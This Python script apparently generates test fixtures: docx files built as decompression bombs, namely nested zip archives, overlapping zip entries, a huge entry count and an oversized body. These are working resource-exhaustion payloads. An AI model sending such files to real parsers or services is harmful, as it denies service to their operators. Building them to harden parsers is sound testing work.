# SPDX-License-Identifier: MIT
"""Archives that are made to grow: nested.docx, overlapping.docx, many.docx and large.docx, here."""
import io
import struct
import zipfile
import zlib

TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
         b'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELATIONS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
             b'relationships"><Relationship Id="r1" Target="word/document.xml" Type="http://schemas.'
             b'openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>')
DOCUMENT = (b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            b'<w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>')


def write(name, parts, document=b"One."):
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("word/document.xml", DOCUMENT % document)
        for part, data in parts:
            archive.writestr(part, data)


def nest(depth):
    """An archive of sixteen archives of sixteen archives..."""
    data = bytes(1 << 20)
    for _ in range(depth):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            for i in range(16):
                archive.writestr("%d.zip" % i, data)
        data = file.getvalue()
    return data


def overlap(name, n):
    """Many entries of the list that all lead to the same megabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(64 << 20)
    data = packer.compress(zeros) + packer.flush()
    sums = (zlib.crc32(zeros), len(data), len(zeros))
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, *sums, 1, 0) + b"a" + data
    entries = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, *sums, 8, 0, 0, 0, 0, 0, 0)
        + b"a%07d" % i for i in range(n))
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, n, n, len(entries), len(local), 0)
    with open(name, "wb") as file:
        file.write(local + entries + end)


write("nested.docx", [("word/embeddings/42.zip", nest(6))])
overlap("overlapping.docx", 4000)
write("many.docx", [("word/media/%d" % i, b"") for i in range(60000)])
write("large.docx", [], b"x" * (200 << 20))
